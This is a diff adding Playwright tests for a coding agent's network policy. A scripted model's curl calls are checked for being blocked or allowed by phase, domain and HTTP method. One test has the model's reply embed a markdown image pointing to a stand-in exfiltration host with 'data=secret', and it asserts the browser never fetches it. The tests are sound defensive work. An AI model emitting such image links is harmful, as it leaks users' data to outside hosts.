@@ -1,0 +1,110 @@
+import { expect, test, type Page } from '@playwright/test';
+import { configure, modelScript, peer, screenshot } from './peers.ts';
+
+type Access = { domains?: string; methods?: 'read' | 'all' };
+
+/** A Lite environment whose setup script fetches from a local peer. */
+async function environment(page: Page, setupScript: string, access?: Access) {
+	await page.goto('/#/environments/new');
+	await page.getByLabel('Repository').fill('acme/empty-ish');
+	await page.getByRole('button', { name: 'Look up' }).click();
+	await expect(page.getByText('1 branch · public')).toBeVisible();
+	await page.getByLabel('Setup script').fill(setupScript);
+	if (access) {
+		await page.getByLabel('On', { exact: true }).check();
+		await page.getByLabel('Allowed hosts').selectOption('none');
+		await page.getByLabel('Extra domains').fill(access.domains ?? '');
+		await page.getByLabel('Methods').selectOption(access.methods ?? 'read');
+	}
+	await page.getByLabel('Runtime').selectOption('lite');
+	await page.getByRole('button', { name: 'Save environment' }).click();
+	await expect(page).toHaveURL(/#\/environments\/[a-f0-9]{16}$/);
+}
+
+async function run(page: Page, prompt: string) {
+	await page.getByRole('navigation').getByRole('link', { name: 'Tasks' }).click();
+	await page.getByRole('textbox', { name: 'Task' }).fill(prompt);
+	await page.getByRole('button', { name: 'Code', exact: true }).click();
+	await expect(page.getByTestId('final')).toBeVisible();
+}
+
+test.describe('Network policy', () => {
+	test('off in the agent phase: curl is blocked and audited; the same request passed during setup', async ({
+		page
+	}) => {
+		const target = `${peer('github')}/repos/acme/empty-ish`;
+		const outside = 'https://exfil.example.com/leak.png?data=secret';
+		const requested: string[] = [];
+		page.on('request', (request) => requested.push(request.url()));
+		const { baseURL } = await modelScript({
+			turns: [
+				{
+					expect: { systemContains: 'Network access is off' },
+					toolCalls: [{ name: 'shell', arguments: { command: `curl -sS ${target}` } }]
+				},
+				{
+					expect: {
+						lastMessage: {
+							role: 'tool',
+							contains: 'Blocked by Patchbay network policy: network off'
+						}
+					},
+					content: `The network is off, so I could not fetch it. ![status](${outside})`
+				}
+			]
+		});
+		await configure(page, { modelBaseURL: baseURL, model: 'scripted-model' });
+		await environment(page, `curl -sS ${target}`);
+		await run(page, 'Fetch the repository metadata');
+
+		await expect(page.getByTestId('network-phase')).toContainText('Network access is off');
+		const panel = page.getByTestId('network-panel');
+		await expect(panel.getByTestId('network-summary')).toHaveText('2 requests · 1 blocked');
+		const rows = panel.locator('tbody tr');
+		await expect(rows.nth(0)).toContainText('agent');
+		await expect(rows.nth(0)).toContainText('blocked: network off');
+		await expect(rows.nth(1)).toContainText('setup');
+		await expect(rows.nth(1)).toContainText('allowed: all hosts allowed');
+		await expect(page.getByTestId('final')).toContainText(outside);
+		expect(requested.filter((url) => url.includes('exfil.example.com'))).toEqual([]);
+		await screenshot(page, 'network-off');
+	});
+
+	test('127.0.0.1 allowed read-only: GET succeeds, POST is blocked', async ({ page }) => {
+		const target = `${peer('github')}/repos/acme/empty-ish`;
+		const { baseURL } = await modelScript({
+			turns: [
+				{ toolCalls: [{ name: 'shell', arguments: { command: `curl -sS ${target}` } }] },
+				{
+					expect: { lastMessage: { role: 'tool', contains: '"full_name":"acme/empty-ish"' } },
+					toolCalls: [
+						{
+							name: 'shell',
+							arguments: { command: `curl -sS -X POST -d '{}' ${peer('github')}/user/repos` }
+						}
+					]
+				},
+				{
+					expect: {
+						lastMessage: { role: 'tool', contains: 'method POST not allowed (read-only)' }
+					},
+					content: 'GET worked, POST was refused.'
+				}
+			]
+		});
+		await configure(page, { modelBaseURL: baseURL, model: 'scripted-model' });
+		await environment(page, '', { domains: '127.0.0.1', methods: 'read' });
+		await run(page, 'Read and then try to write');
+		const panel = page.getByTestId('network-panel');
+		await expect(panel.getByTestId('network-summary')).toHaveText('2 requests · 1 blocked');
+		await expect(panel.locator('tbody tr').nth(0)).toContainText('POST');
+		await expect(panel.locator('tbody tr').nth(0)).toContainText(
+			'blocked: method POST not allowed (read-only)'
+		);
+		await expect(panel.locator('tbody tr').nth(1)).toContainText(
+			'allowed: allowed domain: 127.0.0.1'
+		);
+		await panel.getByLabel('blocked').check();
+		await expect(panel.locator('tbody tr')).toHaveCount(1);
+	});
+});
